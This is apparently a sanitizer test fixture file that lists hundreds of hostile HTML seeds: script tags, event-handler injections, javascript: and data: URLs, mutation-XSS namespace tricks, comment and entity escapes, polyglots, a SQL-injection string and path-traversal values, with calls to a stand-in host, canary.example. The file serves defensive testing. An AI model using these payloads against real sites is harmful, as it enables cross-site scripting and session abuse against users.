/**
 * Fragments of an attacker's article that would run a script, send a request or break the page. A script that runs
 * sets `__pwned`; canary.example must never get a request. One a line; ⟨202e⟩ is the character of that number,
 * PICTURE the key of a stored picture and OFFER the id of an offer.
 */
const seeds = {
  scripts: `
<script>__pwned=1</script>
<SCRIPT>__pwned=1</SCRIPT>
<script src="https://canary.example/x.js"></script>
<script src=//canary.example/x.js></script>
<script type="module">import "https://canary.example/x.js"</script>
<script/x>__pwned=1</script>
<script⟨a⟩>__pwned=1</script⟨a⟩>
<scr<script>ipt>__pwned=1</scr</script>ipt>
<script>__pwned=1
<script>/*<!--*/__pwned=1//--></script>
<<script>__pwned=1//<</script>
<script><!--<script></script>__pwned=1</script>
<svg><script>__pwned=1</script></svg>
<svg><script href="https://canary.example/x.js"/></svg>
<math><script>__pwned=1</script></math>
<script>⟨a⟩]]>__pwned=1</script>`,
  handlers: `
<img src=x onerror=__pwned=1>
<img src="/img/PICTURE.webp" onload="__pwned=1">
<img src="/img/PICTURE.webp" alt="a" onerror=__pwned=1 onclick='__pwned=1'>
<img/src="/img/PICTURE.webp"/onload=__pwned=1>
<img⟨c⟩src="/img/PICTURE.webp"⟨c⟩onload=__pwned=1>
<img src='/img/PICTURE.webp'onload=__pwned=1>
<img """><script>__pwned=1</script>">
<image src="/img/PICTURE.webp" onload=__pwned=1>
<body onload=__pwned=1>
<p onclick="__pwned=1" onmouseover=__pwned=1 tabindex=0 autofocus onfocus=__pwned=1>a</p>
<input autofocus onfocus=__pwned=1>
<details open ontoggle=__pwned=1><summary>a</summary>b</details>
<video autoplay onloadstart=__pwned=1><source src="https://canary.example/v"></video>
<audio src=x onerror=__pwned=1></audio>
<marquee onstart=__pwned=1>a</marquee>
<select autofocus onfocus=__pwned=1><option>a</option></select>
<table onclick=__pwned=1 background="https://canary.example/b"><tr><td background="https://canary.example/t">a</td></tr></table>
<a href="/x" onmouseover="__pwned=1">a</a>
<p/onclick=__pwned=1>a</p>
<p style="animation:x" onanimationstart="__pwned=1">a</p>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=__pwned=1>a</p>
<svg onload=__pwned=1>
<svg/onload=__pwned=1//
<div data-x='"><img src=x onerror=__pwned=1>'>a</div>
<h2 title="</h2><img src=x onerror=__pwned=1>">a</h2>
<a title='"><img src=x onerror=__pwned=1>' href="/x">a</a>
<img alt="--><script>__pwned=1</script>" src="/img/PICTURE.webp">
<img alt="</p></div></article><script>__pwned=1</script>" src="/img/PICTURE.webp">`,
  addresses: String.raw`
<a href="javascript:__pwned=1">a</a>
<a href="JaVaScRiPt:__pwned=1">a</a>
<a href=" javascript:__pwned=1">a</a>
<a href="java⟨9⟩script:__pwned=1">a</a>
<a href="java⟨a⟩script:__pwned=1">a</a>
<a href="javascript&colon;__pwned=1">a</a>
<a href="&#106;avascript:__pwned=1">a</a>
<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__pwned=1">a</a>
<a href="javascript&NewLine;:__pwned=1">a</a>
<a href="&#1;javascript:__pwned=1">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="data:text/html,<script>__pwned=1</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5fX3B3bmVkPTE8L3NjcmlwdD4=">a</a>
<a href="blob:https://canary.example/x">a</a>
<a href="file:///etc/passwd">a</a>
<a href="//canary.example/x">a</a>
<a href="/\canary.example/x">a</a>
<a href="/⟨9⟩/canary.example/x">a</a>
<a href="/⟨a⟩/canary.example/x">a</a>
<a href="\\canary.example\x">a</a>
<a href="https:canary.example">a</a>
<a href="https://canary.example/x" ping="https://canary.example/p" rel="opener" target="_self">a</a>
<a href="https://canary.example/&quot; onclick=&quot;__pwned=1">a</a>
<a href='https://canary.example/" onclick="__pwned=1'>a</a>
<a href="https://canary.example/x" download>a</a>
<a href="#" id="conteudo" name="conteudo">a</a>
<form action="https://canary.example/f"><button formaction="javascript:__pwned=1">a</button></form>
<isindex action="javascript:__pwned=1" type="submit">
<area href="javascript:__pwned=1"><map><area href="https://canary.example/x"></map>
<base href="https://canary.example/"><a href="/x">a</a>
<base target="_top"><p>a</p>`,
  calls: `
<img src="https://canary.example/x.png">
<img src="//canary.example/x.png">
<img src="/img/PICTURE.webp" srcset="https://canary.example/x.png 2x">
<img srcset="https://canary.example/x.png" src="/img/PICTURE.webp" sizes="1px">
<img src="/img/PICTURE.webp" longdesc="https://canary.example/x" usemap="#x" lowsrc="https://canary.example/l">
<img src="/img/../auth/v1/logout">
<img src="/img/%2e%2e/auth/v1/logout">
<img src="data:image/svg+xml,<svg onload=__pwned=1>">
<picture><source srcset="https://canary.example/x.png"><img src="/img/PICTURE.webp"></picture>
<link rel="stylesheet" href="https://canary.example/x.css">
<link rel="dns-prefetch" href="//canary.example"><link rel="preconnect" href="https://canary.example">
<link rel="prefetch" href="https://canary.example/x"><link rel="manifest" href="https://canary.example/m">
<meta http-equiv="refresh" content="0;url=https://canary.example/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<style>@import "https://canary.example/x.css";</style>
<style>body{background:url(https://canary.example/x.png)}</style>
<p style="background:url(https://canary.example/x.png)">a</p>
<p style="background:url('javascript:__pwned=1')">a</p>
<iframe src="https://canary.example/"></iframe>
<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>
<iframe><p>a</p><img src=x onerror=__pwned=1></iframe>
<object data="https://canary.example/x"><param name=a value=b></object>
<embed src="https://canary.example/x.swf">
<applet code="x" codebase="https://canary.example/"></applet>
<video poster="https://canary.example/x.png" src="https://canary.example/x.mp4"></video>
<track src="https://canary.example/x.vtt"><bgsound src="https://canary.example/x.wav">
<frameset onload=__pwned=1><frame src="https://canary.example/"></frameset>
<portal src="https://canary.example/"></portal><fencedframe src="https://canary.example/"></fencedframe>
<input type="image" src="https://canary.example/x.png">
<svg><image href="https://canary.example/x.png"/><use href="https://canary.example/x.svg#a"/></svg>
<svg><feImage href="https://canary.example/x.png"/></svg>
<math><mtext href="https://canary.example/"><a xlink:href="javascript:__pwned=1">a</a></mtext></math>`,
  namespaces: `
<svg><style><img src=x onerror=__pwned=1></style></svg>
<svg></p><style><a id="</style><img src=x onerror=__pwned=1>">
<svg><p><style><!--</style><img src=x onerror=__pwned=1>--></style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=__pwned=1&gt;">
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=__pwned=1 src=x>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__pwned=1>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=__pwned=1></style></annotation-xml></math>
<svg><foreignObject><math><mi><style><img src=x onerror=__pwned=1></style></mi></math></foreignObject></svg>
<svg><desc><p>a</p><script>__pwned=1</script></desc></svg>
<svg><title><style><img src=x onerror=__pwned=1></style></title></svg>
<svg><animate attributeName=href values="javascript:__pwned=1"/><a id=x><text x=20 y=20>a</text></a></svg>
<svg><a><animate attributeName=href values=javascript:__pwned=1 /><text x=20 y=20>a</text></a></svg>
<svg><set attributeName=onmouseover to=__pwned=1></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">__pwned=1</handler></svg>
<svg><![CDATA[><img src=x onerror=__pwned=1>]]></svg>
<math><![CDATA[<img src=x onerror=__pwned=1>]]></math>
<svg:script xmlns:svg="http://www.w3.org/2000/svg">__pwned=1</svg:script>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">__pwned=1</x:script>
<svg><font color="x"><p onclick=__pwned=1>a</p></font></svg>
<math><mi//xlink:href="data:x,<script>__pwned=1</script>">
<svg><textarea><img src=x onerror=__pwned=1></textarea></svg>
<svg><xmp><img src=x onerror=__pwned=1></xmp></svg>
<svg><noscript><img src=x onerror=__pwned=1></noscript></svg>
<svg><br><img src=x onerror=__pwned=1>
<math><p><img src=x onerror=__pwned=1></math>`,
  rawTexts: `
<noscript><p title="</noscript><img src=x onerror=__pwned=1>">
<noscript><style></noscript><img src=x onerror=__pwned=1></style>
<textarea></textarea/><img src=x onerror=__pwned=1></textarea>
<textarea><img title="</textarea><img src=x onerror=__pwned=1>"></textarea>
<title><a href="</title><img src=x onerror=__pwned=1>">a</a></title>
<xmp><p title="</xmp><img src=x onerror=__pwned=1>">
<xmp></xmp/><img src=x onerror=__pwned=1></xmp>
<noembed><p title="</noembed><img src=x onerror=__pwned=1>">
<noframes><p title="</noframes><img src=x onerror=__pwned=1>">
<iframe><p title="</iframe><img src=x onerror=__pwned=1>">
<style><p title="</style><img src=x onerror=__pwned=1>">
<script><p title="</script><img src=x onerror=__pwned=1>">
<plaintext><img src=x onerror=__pwned=1>
<select><template><img src=x onerror=__pwned=1></template></select>
<select><style></select><img src=x onerror=__pwned=1></style>
<option><img src=x onerror=__pwned=1></option>
<listing>&lt;img src=x onerror=__pwned=1&gt;</listing>
<template><img src=x onerror=__pwned=1></template>
<template shadowrootmode="open"><script>__pwned=1</script></template>
<p><template><p></template><img src=x onerror=__pwned=1></p>
<table><template><tr><td><img src=x onerror=__pwned=1></template></table>
<style/><img src=x onerror=__pwned=1>
<title/><img src=x onerror=__pwned=1>
<pre>⟨a⟩⟨a⟩<code>&lt;script&gt;__pwned=1&lt;/script&gt;</code></pre>`,
  comments: `
<!--><img src=x onerror=__pwned=1>-->
<!---><img src=x onerror=__pwned=1>-->
<!----!><img src=x onerror=__pwned=1>-->
<!-- --!><img src=x onerror=__pwned=1>
<!--<img src="--><img src=x onerror=__pwned=1//">
<!-- a <!-- b --> c --><img src=x onerror=__pwned=1>
<!-- a
<!a><img src=x onerror=__pwned=1>
<!DOCTYPE html "<img src=x onerror=__pwned=1>">
<![CDATA[<img src=x onerror=__pwned=1>]]>
<![CDATA[ ]]><script>__pwned=1</script>
<?xml version="1.0"?><img src=x onerror=__pwned=1>
<?x ><img src=x onerror=__pwned=1>?>
</ a><img src=x onerror=__pwned=1>
</><img src=x onerror=__pwned=1>
<% a %><img src=x onerror=__pwned=1>
<!--[if gte IE 4]><script>__pwned=1</script><![endif]-->
<!--[if !mso]><!--><img src=x onerror=__pwned=1><!--<![endif]-->`,
  entities: `
&lt;script&gt;__pwned=1&lt;/script&gt;
&amp;lt;img src=x onerror=__pwned=1&amp;gt;
&#60;img src=x onerror=__pwned=1&#62;
&#x3c;img src=x onerror=__pwned=1&#x3e;
&#0000060img src=x onerror=__pwned=1&#0000062
&LT;img src=x onerror=__pwned=1&GT;
&lt;img src=x onerror=__pwned=1>
<img alt="&quot;&gt;&lt;img src=x onerror=__pwned=1&gt;" src="/img/PICTURE.webp">
<a href="/x?a=1&lt=2&quot;&#39;&#x22;">a &amp &ltb &notit; &#xD800; &#0; &#x110000; &nosuch;</a>
<p title="&#x3c;/p&#x3e;">&apos;&grave;&lbrace;{{__pwned=1}}</p>
<option>&lt;script&gt;__pwned=1&lt;/script&gt;</option>`,
  structures: `
<p><a href="/x"><p><a href="/y"><p><strong>a
<strong><em><u><s><h2><p><ul><li><strong>a</em></u></s></h2>b
<table><a href="/x"><tr><td><a href="/y"></table><td>a</td></tr>
<table><td><table><td><table><caption><table><p>a</table></caption>b
<table><tr><td></div></div></article></main><footer>a</footer><p>b
</div></div></article></main></body></html><p>a
</p></p></li></ul></td></table></a></strong><p>a
<ul><li><ol><li><ul></li></ol><li>a</ul></li>b
<table><caption><strong><td><p>a</caption><tr><th><li>b</th></table>c
<a href="/x"><table><tr><td></a><a href="/y">a</td></tr></table>b</a>
<h2><h3><h4><p>a</h2></h3></h4><pre><table><pre>b
<blockquote><figure><figcaption><table><figure>a</figcaption></blockquote>b
<select><table><tr><td>a</select>b</td></table>
<button><p>a</button></p><button>b
<nobr><nobr><nobr><font><font><b><b><b><b><b><i>a</nobr></b>b
<form><div></form><div><form>a</div></form>b
<html><head></head><body><p>a</body></html><p>b
<dl><dt>a<dd>b<ruby>c<rt>d<rp>e</dl>`,
  offers: `
<div data-product-id="OFFER"><script>__pwned=1</script></div>
<div data-product-id="OFFER" onclick="__pwned=1" style="x" class="y"><p>R$ 1</p></div>
<div data-product-id='1"><script>__pwned=1</script>'>a</div>
<div data-product-id="OFFER&quot;><img src=x onerror=__pwned=1>"></div>
<div data-product-id="' OR 1=1 --"></div>
<div data-product-id="../../auth/v1/logout"></div>
<div data-product-id="OFFER" data-product-id="x"></div>
<DIV DATA-PRODUCT-ID="OFFER"><div data-product-id="OFFER"></div>
<table><tr><td><div data-product-id="OFFER"></div></td></tr></table>
<table><div data-product-id="OFFER"></table><caption>a
<ul><li><div data-product-id="OFFER">a</li></ul></div>
<p><strong><a href="/x"><div data-product-id="OFFER"></div></a></strong></p>
<h2>a<div data-product-id="OFFER"></div>b</h2>
<span data-product-id="OFFER" onclick=__pwned=1>a</span>
<img alt='<div data-product-id="OFFER"></div>' src="/img/PICTURE.webp">
&lt;div data-product-id="OFFER"&gt;&lt;/div&gt;`,
  oddities: String.raw`
<ſcript>__pwned=1</ſcript>
<ſtyle>@import "https://canary.example/x"</ſtyle>
＜script＞__pwned=1＜/script＞
<İmg src=x onerror=__pwned=1>
<img src=x onerror=__pwned=1>⟨202e⟩gnp.x=crs
<p>a⟨200b⟩b⟨200d⟩c⟨202e⟩d⟨2066⟩e⟨200f⟩</p><a href="⟨202e⟩https://canary.example">a</a>
<a href="https://xn--e1afmkfd.example/😀?q=é">😀</a>
<a href="https://canary.example@xepa.example">a</a>
<p>😀👩⟨200d⟩👩⟨200d⟩👧⟨200d⟩👦🇧🇷 é ﬁ ™</p>
<scr�ipt>__pwned=1</scr�ipt>
<  script>__pwned=1</script>
< img src=x onerror=__pwned=1>
<img src=x onerror=__pwned=1
<img src="x" onerror="__pwned=1
<p title="a>b
<a href=/x⟨a⟩title=b>c
<p =">" title==a ">b</p>
<img ='"' src=x onerror=__pwned=1>
<p constructor="x" __proto__="y" hasownproperty=z>a</p>
<constructor onclick=__pwned=1>a</constructor><__proto__>b</__proto__>
<x-y is="z" onclick=__pwned=1 slot="a" part="b">a</x-y>
<p contenteditable spellcheck popover="auto" id="sumario" name="x">a</p>
<h2>__pwned</h2><h2>Conteúdo</h2><h2>produtos</h2><h2>titulo</h2>
<p></p⟨2060⟩><p>⟨2060⟩</p>
\x3cscript\x3e__pwned=1\x3c/script\x3e
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+__pwned=1//'>
"><svg/onload=__pwned=1>'"--></style></script><img src=x onerror=__pwned=1>
';__pwned=1;//</script><svg onload=__pwned=1>`,
};

export const hostileSeeds: readonly string[] = Object.values(seeds).flatMap((group) =>
  group
    .trim()
    .split("\n")
    .map((line) =>
      line.replace(/⟨([\da-f]+)⟩/g, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16))),
    ),
);
